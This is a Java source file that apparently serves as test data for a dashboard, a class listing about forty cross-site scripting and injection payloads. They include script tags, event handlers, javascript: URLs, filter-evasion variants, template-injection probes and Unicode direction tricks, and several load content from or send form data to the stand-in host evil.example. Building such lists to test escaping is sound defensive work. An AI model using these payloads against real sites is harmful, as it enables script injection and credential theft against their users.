package dev.linecheck.dashboard;

import java.util.List;

/// What somebody would say in a call, or name a thing, to run a script in the browser of whoever
/// looks at it, to load something from elsewhere, or to change the page.
final class HostileWords {
  static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(2)</script>",
          "<ScRiPt>alert(3)</sCrIpT>",
          "<scr<script>ipt>alert(4)</scr</script>ipt>",
          "<script src=//evil.example/5.js></script>",
          "<script/x>alert(6)</script/x>",
          "<img src=x onerror=alert(7)>",
          "<img src=//evil.example/8.png>",
          "<img/src=`x`onerror=alert(9)>",
          "<svg onload=alert(10)>",
          "<svg><script>alert(11)</script></svg>",
          "<svg><a xlink:href=javascript:alert(12)><text y=9>x</text></a></svg>",
          "<body onload=alert(13)>",
          "<iframe src=javascript:alert(14)></iframe>",
          "<iframe srcdoc='<script>alert(15)</script>'></iframe>",
          "<object data=//evil.example/16></object>",
          "<embed src=//evil.example/17>",
          "<base href=//evil.example/18/>",
          "<link rel=stylesheet href=//evil.example/19.css>",
          "<style>@import '//evil.example/20.css';</style>",
          "<meta http-equiv=refresh content='0;url=//evil.example/21'>",
          "<form action=//evil.example/22><button>Sign in</button></form>",
          "<input autofocus onfocus=alert(23)>",
          "<details open ontoggle=alert(24)>",
          "<marquee onstart=alert(25)>",
          "<video><source onerror=alert(26)></video>",
          "<math><mtext></p><img src=x onerror=alert(27)></mtext></math>",
          "<template><script>alert(28)</script></template>",
          "\" onmouseover=\"alert(29)\" x=\"",
          "' autofocus onfocus='alert(30)' x='",
          "\"><img src=x onerror=alert(31)>",
          "javascript:alert(32)",
          "data:text/html,<script>alert(33)</script>",
          "</title></textarea></style></bdi></p><script>alert(34)</script>",
          "<!-- --><script>alert(35)</script>",
          "]]><script>alert(36)</script>",
          "&lt;script&gt;alert(37)&lt;/script&gt; &#60;img src=x onerror=alert(37)&#62;",
          "${7*7} {{7*7}} @raw !{var x=1;} $unsafe{x} @template.layout()",
          "\\u003cscript\\u003ealert(39)\\u003c/script\\u003e \uff1cscript\uff1ealert(39)",
          "\u202e>tpircs/<)04(trela>tpircs<\u202c \u2066\u200b\ufeff\u0300");

  private HostileWords() {}
}
